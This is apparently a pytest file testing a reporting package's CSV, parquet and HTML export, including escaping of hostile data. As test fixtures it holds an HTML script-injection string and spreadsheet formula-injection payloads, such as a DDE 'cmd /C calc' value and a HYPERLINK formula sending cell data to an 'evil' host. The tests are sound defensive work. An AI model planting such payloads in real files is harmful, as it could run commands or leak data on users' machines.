"""Report files and the HTML page: written whole, read back alike, self-contained, escaped."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser
from pathlib import Path

import matplotlib.image
import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from chift_frames import Frames, flatten, list_snapshots, load, save
from chift_frames.cli import main
from chift_frames.export import (
    CHARTS,
    FORMATS,
    FORMULA_STARTS,
    compute_reports,
    escape_formulas,
    render_html,
    save_html,
    save_reports,
    to_png,
    write_csv,
)
from chift_frames.reports import REPORTS
from tests.components import require

HOSTILE_CONSUMER = "<script>alert('x')</script> & Sons"
HOSTILE_SYNC = "<b>Caisse</b> $5 $ 日本 → Compta"


@pytest.fixture(scope="module")
def demo_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("demo")
    assert main(["demo", "--out", str(out), "--consumers", "40", "--quiet"]) == 0
    return out


@pytest.fixture(scope="module")
def frames(demo_dir: Path) -> Frames:
    return load(demo_dir)


@pytest.fixture(scope="module")
def reports(frames: Frames) -> dict[str, pd.DataFrame]:
    return compute_reports(frames)


@pytest.fixture(scope="module")
def hostile_frames(frames: Frames) -> Frames:
    """The demo snapshot with a consumer and a sync whose names try to inject HTML."""
    tables = dict(frames)
    victim = frames.consumer_syncs.sort_values(["sync_name", "consumer_id"]).iloc[0]
    consumers = tables["consumers"].copy()
    consumers.loc[consumers.consumer_id == victim.consumer_id, "name"] = HOSTILE_CONSUMER
    tables["consumers"] = consumers
    syncs = tables["consumer_syncs"].copy()
    syncs.loc[syncs.sync_id == victim.sync_id, "sync_name"] = HOSTILE_SYNC
    tables["consumer_syncs"] = syncs
    listed = tables["syncs"].copy()
    listed.loc[listed.sync_id == victim.sync_id, "name"] = HOSTILE_SYNC
    tables["syncs"] = listed
    return Frames(tables)


@pytest.fixture(scope="module")
def hostile_page(hostile_frames: Frames) -> str:
    return render_html(hostile_frames, snapshot_id="s<1>", title="A & <i>B</i>")


@pytest.fixture(scope="module")
def page(frames: Frames, reports: dict[str, pd.DataFrame]) -> str:
    return render_html(frames, snapshot_id="snap-1", reports=reports)


class Elements(HTMLParser):
    """Every start tag of a page, with its attributes, and the text of each <section>."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def all(self, tag: str) -> list[dict[str, str | None]]:
        return [attrs for name, attrs in self.tags if name == tag]


def _list_columns(df: pd.DataFrame) -> list[str]:
    return [c for c in df.columns if df[c].dtype == object]


# -- report files --------------------------------------------------------------------------------


@pytest.mark.parametrize("format", FORMATS)
def test_every_report_is_written_and_reads_back_whole(
    frames: Frames, reports: dict[str, pd.DataFrame], tmp_path: Path, format: str
) -> None:
    paths = save_reports(frames, tmp_path / "out", format, reports=reports)  # type: ignore[arg-type]
    assert paths == [tmp_path / "out" / f"{name}.{format}" for name in REPORTS]
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == sorted(p.name for p in paths)
    for name, path in zip(REPORTS, paths, strict=True):
        back = pd.read_parquet(path) if format == "parquet" else pd.read_csv(path)
        assert len(back) == len(reports[name]), name
        assert list(back.columns) == list(reports[name].columns), name


def test_parquet_keeps_dtypes_and_lists_of_ids(
    frames: Frames, reports: dict[str, pd.DataFrame], tmp_path: Path
) -> None:
    paths = save_reports(frames, tmp_path, reports=reports)
    lists_seen = 0
    for name, path in zip(REPORTS, paths, strict=True):
        df = reports[name]
        back = pd.read_parquet(path)
        lists = _list_columns(df)
        pd.testing.assert_frame_equal(back.drop(columns=lists), df.drop(columns=lists))
        schema = pq.read_schema(path)
        for column in lists:
            type_ = schema.field(column).type
            assert pa.types.is_list(type_) and type_.value_type == pa.string(), (name, column)
            assert [list(ids) for ids in back[column]] == df[column].tolist(), (name, column)
            lists_seen += len(df)
    assert lists_seen > 0, "the demo should have lists of ids to round-trip"


def test_csv_writes_lists_of_ids_as_json(
    frames: Frames, reports: dict[str, pd.DataFrame], tmp_path: Path
) -> None:
    save_reports(frames, tmp_path, "csv", reports=reports)
    inventory = reports["datastore_inventory"]
    back = pd.read_csv(tmp_path / "datastore_inventory.csv")
    for column in _list_columns(inventory):
        assert back[column].map(json.loads).tolist() == inventory[column].tolist()


FORMULAS = {
    "consumer": '=HYPERLINK("http://evil/?x="&A1,"click")',
    "sync": "@SUM(1+1)*cmd|' /C calc'!A0",
    "flow": "-2+3+cmd|' /C calc'!A0",
    "mapping": "\t+1+1\r",
}


@pytest.fixture(scope="module")
def formula_dir(frames: Frames, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The demo snapshot, saved, with names that a spreadsheet would run as formulas."""
    tables = dict(frames)
    victim = frames.consumer_syncs.sort_values(["sync_name", "consumer_id"]).iloc[0]
    mappings = frames.mappings
    unmapped = mappings.loc[mappings.unmapped_count > 0, "name"].iloc[0]
    for table, column, key, value, text in (
        ("consumers", "name", "consumer_id", victim.consumer_id, FORMULAS["consumer"]),
        ("consumer_syncs", "sync_name", "sync_id", victim.sync_id, FORMULAS["sync"]),
        ("syncs", "name", "sync_id", victim.sync_id, FORMULAS["sync"]),
        ("flows", "name", "sync_id", victim.sync_id, FORMULAS["flow"]),
        ("mappings", "name", "name", unmapped, FORMULAS["mapping"]),
    ):
        df = tables[table].copy()
        df[column] = df[column].astype(object)
        df.loc[df[key] == value, column] = text
        tables[table] = df
    root = tmp_path_factory.mktemp("formulas")
    save(Frames(tables), root)
    return root


def _cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_report_csv_escapes_text_a_spreadsheet_would_run(formula_dir: Path, tmp_path: Path) -> None:
    assert main(["report", str(formula_dir), "--format", "csv", "--out", str(tmp_path)]) == 0
    escaped: set[str] = set()
    for path in tmp_path.glob("*.csv"):
        for row in _cells(path):
            for cell in row:
                # a cell a spreadsheet would run is a number, or begins with the escaping '
                assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (path, cell)
                escaped.update(t for t in FORMULAS.values() if cell == "'" + t)
    assert escaped == set(FORMULAS.values())


def test_escape_formulas_leaves_numbers_and_plain_text_alone() -> None:
    df = pd.DataFrame(
        {
            "delta": [-5, 3, 0],
            "share": [-0.5, None, 1.0],
            "count": pd.array([-1, None, 2], dtype="Int64"),
            "text": pd.array(["=1+1", None, "-5"], dtype="string"),
            "ids": ['["=x"]', "\tb", "@c"],  # lists of ids as JSON start with [: safe
            "=name": ["a", "b", "c"],
        }
    )
    out = escape_formulas(df)
    assert list(out.columns) == ["delta", "share", "count", "text", "ids", "'=name"]
    pd.testing.assert_frame_equal(out.iloc[:, :3], df.iloc[:, :3])
    assert out["text"].tolist() == ["'=1+1", pd.NA, "'-5"]  # text, though it reads as a number
    assert out["ids"].tolist() == ['["=x"]', "'\tb", "'@c"]
    assert df["text"].tolist() == ["=1+1", pd.NA, "-5"]  # the caller's frame is left as it was


def test_a_line_break_inside_a_cell_cannot_start_a_row(tmp_path: Path) -> None:
    # unquoted, a spreadsheet starts a new row at the carriage return: its next cell would
    # be '=2+2', a formula that the leading ' of the cell does not reach
    df = pd.DataFrame({"name": ["POS\r=2+2", "a\n@b", "c"], "n": [-1, 2, 3]})
    path = tmp_path / "out.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        write_csv(df, fh)
    assert _cells(path) == [["name", "n"], ["POS\r=2+2", "-1"], ["a\n@b", "2"], ["c", "3"]]
    assert path.read_bytes().count(b"\r\n") == 4  # RFC 4180's row ends
    pd.testing.assert_frame_equal(pd.read_csv(path), df, check_dtype=False)


def test_an_empty_snapshot_still_types_its_lists(tmp_path: Path) -> None:
    paths = save_reports(flatten([]), tmp_path)
    inventory = pq.read_schema(tmp_path / "datastore_inventory.parquet")
    assert pa.types.is_list(inventory.field("outlier_consumer_ids").type)
    assert len(paths) == len(REPORTS)


def _same_table(got: pa.Table, want: pa.Table, name: str) -> None:
    assert got.schema.equals(want.schema, check_metadata=True), name
    assert got.equals(want), name


@pytest.mark.parametrize("which", ["demo", "folder", "hostile", "empty", "outliers"])
def test_report_tables_are_what_the_dataframes_write(
    which: str,
    demo_dir: Path,
    frames: Frames,
    hostile_frames: Frames,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """``report`` without a page writes DuckDB's answers straight: the files must not change."""
    from chift_frames import export
    from chift_frames.export import _to_arrow, compute_report_tables
    from tests.test_reports import many_outliers

    from_arrow = []  # every report's table made from DuckDB's answer, none from its DataFrame
    file_table = export._file_table
    monkeypatch.setattr(export, "_file_table", lambda *a: from_arrow.append(1) or file_table(*a))

    source: Frames | Path = {
        "demo": frames,
        "folder": demo_dir,
        "hostile": hostile_frames,
        "empty": flatten([]),
        "outliers": many_outliers(),
    }[which]
    tables = compute_report_tables(source)
    assert len(from_arrow) == len(REPORTS)
    computed = compute_reports(source)
    assert list(tables) == list(REPORTS)
    for name in REPORTS:
        _same_table(tables[name], _to_arrow(computed[name]), name)


def test_a_report_table_reads_nulls_lists_and_instants_as_the_dataframe_does() -> None:
    from datetime import datetime, timedelta, timezone

    from chift_frames.export import _file_table, _to_arrow
    from chift_frames.reports._query import BOOL, FLOAT, IDS, INT, STRING, UTC, to_frame

    paris = timezone(timedelta(hours=1))
    answer = pa.table(
        {
            "name": pa.array(["a", None, "=x"], pa.string()),
            "count": pa.array([1, None, 3], pa.int32()),
            "share": pa.array([0.5, None, float("nan")], pa.float64()),
            "flag": pa.array([True, None, False]),
            "at": pa.array(
                [datetime(2026, 1, 1, 8, tzinfo=paris), None, datetime(2026, 1, 2, tzinfo=paris)],
                pa.timestamp("us", tz="+01:00"),
            ),
            "ids": pa.array([["c1", "c2"], None, []], pa.list_(pa.field("l", pa.string()))),
        }
    )
    columns = {"name": STRING, "count": INT, "share": FLOAT, "flag": BOOL, "at": UTC, "ids": IDS}
    empty = to_frame(answer.slice(0, 0), columns)
    _same_table(_file_table(empty, answer, columns), _to_arrow(to_frame(answer, columns)), "answer")
    _same_table(
        _file_table(empty, answer.slice(0, 0), columns),
        _to_arrow(to_frame(answer.slice(0, 0), columns)),
        "no row",
    )


def test_a_report_that_changes_its_answer_is_not_written_from_arrow(
    frames: Frames, monkeypatch: pytest.MonkeyPatch
) -> None:
    from chift_frames.export import compute_report_tables

    adoption = REPORTS["flow_adoption"]
    monkeypatch.setitem(REPORTS, "flow_adoption", lambda con: adoption(con).head(1))
    with pytest.raises(RuntimeError, match="report flow_adoption changed the DataFrame"):
        compute_report_tables(frames)


def test_csv_is_not_written_from_arrow_tables(frames: Frames, tmp_path: Path) -> None:
    from chift_frames.export import compute_report_tables

    with pytest.raises(ValueError, match="CSV is written from DataFrames"):
        save_reports(frames, tmp_path, "csv", reports=compute_report_tables(frames))


def test_reports_are_computed_when_not_given(frames: Frames, tmp_path: Path) -> None:
    (path, *_) = save_reports(frames, tmp_path, "csv")
    assert len(pd.read_csv(path)) == len(REPORTS["onboarding_funnel"](frames))


def test_an_unknown_format_is_refused(frames: Frames, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="format must be one of"):
        save_reports(frames, tmp_path, "xlsx")  # type: ignore[arg-type]


# -- the command ---------------------------------------------------------------------------------


def test_report_command_writes_every_report_and_the_page(
    demo_dir: Path, reports: dict[str, pd.DataFrame], tmp_path: Path, capsys
) -> None:
    html = tmp_path / "page" / "report.html"
    assert main(["report", str(demo_dir), "--html", str(html)]) == 0
    out = capsys.readouterr().out
    snapshot_id = list_snapshots(demo_dir).snapshot_id.iloc[-1]
    folder = demo_dir / "reports" / snapshot_id
    assert f"Reports of snapshot {snapshot_id} in {folder}:" in out
    for name, df in reports.items():
        assert (folder / f"{name}.parquet").is_file()
        line = next(ln for ln in out.splitlines() if f" {name}.parquet " in ln)
        assert line.split()[-2:] == [f"{len(df):,}", "row" if len(df) == 1 else "rows"]
    assert f"HTML page: {html}" in out
    assert html.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")


def test_report_command_takes_a_format_an_out_folder_and_a_snapshot(
    demo_dir: Path, tmp_path: Path, capsys
) -> None:
    snapshot_id = list_snapshots(demo_dir).snapshot_id.iloc[-1]
    args = ["report", str(demo_dir), "--format", "csv", "--out", str(tmp_path)]
    assert main([*args, "--snapshot", snapshot_id]) == 0
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(f"{n}.csv" for n in REPORTS)
    assert "onboarding_funnel.csv" in capsys.readouterr().out


def test_report_command_errors_exit_1(demo_dir: Path, tmp_path: Path, capsys) -> None:
    assert main(["report", str(tmp_path)]) == 1
    assert "not a chift_frames dataset" in capsys.readouterr().err
    assert main(["report", str(demo_dir), "--snapshot", "nope"]) == 1
    assert "no snapshot 'nope'" in capsys.readouterr().err
    assert main(["report", str(demo_dir), "--snapshot", "all"]) == 1
    assert "one snapshot" in capsys.readouterr().err


# -- the HTML page -------------------------------------------------------------------------------


def test_page_is_self_contained(page: str) -> None:
    elements = Elements(page)
    assert not elements.all("script") and not elements.all("link")
    for tag, attrs in elements.tags:
        for attr in ("src", "href", "srcset", "action", "poster"):
            value = attrs.get(attr)
            if value is not None:
                assert value.startswith(("data:image/png;base64,", "#")), (tag, attr, value[:60])
    images = elements.all("img")
    assert images and all(str(img["src"]).startswith("data:image/png;base64,") for img in images)
    assert all(img.get("alt") for img in images)
    assert "url(" not in page and "@import" not in page


def test_page_has_one_section_per_report(
    page: str, reports: dict[str, pd.DataFrame], frames: Frames
) -> None:
    elements = Elements(page)
    assert [attrs["id"] for attrs in elements.all("section")] == list(REPORTS)
    assert len(elements.all("table")) == 1 + len(REPORTS)
    assert len(elements.all("img")) == len(CHARTS)  # the demo has something for every chart
    assert "snap-1" in page
    for name, df in reports.items():
        question = (REPORTS[name].__doc__ or "").strip().splitlines()[0]
        assert question.replace("'", "&#x27;") in page, name
        if len(df) > 50:
            assert f"Showing 50 of {len(df):,} rows." in page
    for table, count in frames.row_counts().items():
        assert f"<td>{table}</td>\n      <td>{count:,}</td>" in page


def test_every_chart_is_for_a_report() -> None:
    assert set(CHARTS) <= set(REPORTS)


def test_page_escapes_the_data(hostile_page: str) -> None:
    page = hostile_page
    assert "<script" not in page and "<b>Caisse" not in page and "<i>B" not in page
    assert "&lt;script&gt;alert('x')&lt;/script&gt; &amp; Sons" in page  # a table cell
    assert "&lt;b&gt;Caisse&lt;/b&gt;" in page and "s&lt;1&gt;" in page
    assert not Elements(page).all("script")


def test_an_empty_snapshot_has_tables_and_no_charts() -> None:
    elements = Elements(render_html(flatten([])))
    assert not elements.all("img")
    assert len(elements.all("table")) == 1 + len(REPORTS)


def test_save_html_writes_the_page(tmp_path: Path) -> None:
    empty = flatten([])
    path = save_html(empty, tmp_path / "new" / "r.html", snapshot_id="s1", max_rows=5)
    assert path.read_text(encoding="utf-8") == render_html(empty, snapshot_id="s1", max_rows=5)
    assert [p.name for p in path.parent.iterdir()] == ["r.html"]


def test_charts_render_alike_across_threads_and_leave_no_pyplot_figure(
    reports: dict[str, pd.DataFrame],
) -> None:
    pyplot = sys.modules.get("matplotlib.pyplot")
    before = pyplot.get_fignums() if pyplot else None

    def draw(name: str) -> bytes:
        chart = CHARTS[name](reports[name])
        assert chart is not None
        return to_png(chart[0])

    alone = {name: draw(name) for name in CHARTS}
    names = list(CHARTS) * 2
    with ThreadPoolExecutor(max_workers=4) as pool:
        drawn = list(pool.map(draw, names))
    assert drawn == [alone[name] for name in names]
    assert all(png.startswith(b"\x89PNG") for png in drawn)
    if pyplot is None:
        assert "matplotlib.pyplot" not in sys.modules
    else:
        assert pyplot.get_fignums() == before


# -- in a real browser ---------------------------------------------------------------------------


def _chromium() -> str:
    return require("chromium")


def _run_chromium(chromium: str, tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    flags = [
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--disable-dev-shm-usage",
        f"--user-data-dir={tmp_path / 'profile'}",
    ]
    return subprocess.run(
        [chromium, *flags, *args],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
        cwd=tmp_path,
        env={**os.environ, "HOME": str(tmp_path)},
    )


def test_page_renders_in_headless_chromium(hostile_page: str, tmp_path: Path) -> None:
    chromium = _chromium()
    html = tmp_path / "report.html"
    html.write_text(hostile_page, encoding="utf-8")
    url = html.resolve().as_uri()

    dom = _run_chromium(chromium, tmp_path, "--dump-dom", url).stdout
    elements = Elements(dom)
    assert [attrs["id"] for attrs in elements.all("section")] == list(REPORTS)
    assert len(elements.all("img")) == len(CHARTS)
    assert len(elements.all("table")) == 1 + len(REPORTS)
    assert not elements.all("script")
    assert "&lt;script&gt;alert" in dom

    shot = tmp_path / "shot.png"
    _run_chromium(chromium, tmp_path, f"--screenshot={shot}", "--window-size=1280,4000", url)
    assert shot.stat().st_size > 100_000
    pixels = matplotlib.image.imread(shot)
    assert pixels.shape[:2] == (4000, 1280)
    rgb = (pixels[..., :3] * 255).round().astype(np.uint32)
    colours = rgb[..., 0] << 16 | rgb[..., 1] << 8 | rgb[..., 2]
    # drawn top to bottom (text, tables, charts), not one flat colour or a blank tail
    for top in range(0, 4000, 400):
        assert len(np.unique(colours[top : top + 400])) > 16, f"rows {top}-{top + 400} look blank"
    assert pixels.std() > 0.05


# -- what the page says about the snapshot, and how it lays reports out -------------------------


def test_a_complete_snapshot_has_no_warning(demo_dir: Path) -> None:
    page = render_html(demo_dir)
    assert 'class="warning"' not in page


def test_a_partial_snapshot_says_so_with_pairs_done_and_expected(tmp_path: Path) -> None:
    from chift_frames.client import ChiftClient
    from chift_frames.fetch import fetch_snapshot
    from chift_frames.sandbox import Faults, Sandbox
    from chift_frames.world import World

    world = World(consumers=30, syncs=2, seed=3)
    with Sandbox(world, faults=Faults(fail_pairs=0.2)) as sandbox:
        client = ChiftClient(
            "id", "secret", "a8bf0000-0000-4000-8000-000000000001", base_url=sandbox.url,
            backoff=0.001, max_attempts=2,
        )  # fmt: skip
        result = fetch_snapshot(client, tmp_path, executions=False)
    assert result.status == "partial" and result.pairs_failed > 0
    page = render_html(tmp_path)
    warnings = [attrs for attrs in Elements(page).all("p") if attrs.get("class") == "warning"]
    assert len(warnings) == 1
    assert (
        f"<strong>This snapshot is partial</strong>: {result.pairs_ok:,} of "
        f"{world.pair_count:,} consumer-sync pairs were fetched; {result.pairs_failed:,} pairs "
        "failed (table fetch_errors)."
    ) in page
    assert f"--resume {result.snapshot_id}</code>" in page


def test_an_interrupted_snapshot_gives_a_lower_bound(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from chift_frames.export import _completeness_note

    # a manifest as an interrupted fetch leaves it
    manifest = {
        "snapshot_id": "snap-9",
        "status": "partial",
        "info": {"pairs_ok": 40, "pairs_failed": 2, "interrupted": "KeyboardInterrupt"},
    }
    monkeypatch.setattr("chift_frames.export.snapshot_manifest", lambda root, snapshot: manifest)
    note = _completeness_note(str(tmp_path), "latest")
    assert note is not None
    assert "<strong>This snapshot is interrupted</strong>: 40 of at least 42 consumer-sync" in note


def test_tables_put_names_and_status_first_and_uuids_last(page: str) -> None:
    def headers(name: str) -> list[str]:
        section = page[page.index(f'<section id="{name}"') :]
        head = section[section.index("<thead>") : section.index("</thead>")]
        return [h.split(">")[-1] for h in head.split("</th>")[:-1]]

    assert headers("consumer_health")[:5] == [
        "consumer_name",
        "sync_name",
        "state",
        "status",
        "status_details",
    ]
    assert headers("consumer_health")[-2:] == ["consumer_id", "sync_id"]
    assert headers("monitoring_states")[:4] == [
        "consumer_name",
        "sync_name",
        "state",
        "chift_state",
    ]
    assert headers("flow_adoption")[:2] == ["sync_name", "flow_name"]
    assert headers("flow_adoption")[-2:] == ["sync_id", "flow_id"]
    assert headers("consensus_targets")[-2:] == ["sync_id", "outlier_consumer_ids"]
    # a value's id stays beside its label
    unmapped = headers("unmapped_sources")
    assert unmapped.index("source_label") == unmapped.index("source_id") + 1
    assert unmapped[-1] == "sync_id"


@pytest.mark.parametrize("name", sorted(CHARTS))
def test_chart_legends_do_not_cover_bars(name: str, reports: dict[str, pd.DataFrame]) -> None:
    from matplotlib.patches import Rectangle

    chart = CHARTS[name](reports[name])
    assert chart is not None
    figure = chart[0]
    figure.canvas.draw()
    renderer = figure.canvas.get_renderer()  # type: ignore[attr-defined]
    legends = [*figure.legends, *(ax.get_legend() for ax in figure.axes if ax.get_legend())]
    bars = [
        patch.get_window_extent(renderer)
        for ax in figure.axes
        for patch in ax.patches
        if isinstance(patch, Rectangle) and patch.get_width() and patch.get_height()
    ]
    for legend in legends:
        box = legend.get_window_extent(renderer)
        assert not any(box.overlaps(bar) for bar in bars), name


def test_monitoring_states_chart_counts_unknown_states(reports: dict[str, pd.DataFrame]) -> None:
    """A snapshot fetched without connections has no state: its setups show as unknown."""
    df = reports["monitoring_states"].copy()
    df["state"] = pd.Series([pd.NA] * len(df), dtype=df["state"].dtype)
    chart = CHARTS["monitoring_states"](df)  # pytest turns a warning (an empty legend) to error
    assert chart is not None
    figure = chart[0]
    (ax,) = figure.axes
    widths = [patch.get_width() for patch in ax.patches]
    assert sum(widths) == len(df)
    (legend,) = figure.legends
    assert [text.get_text() for text in legend.get_texts()] == ["unknown"]
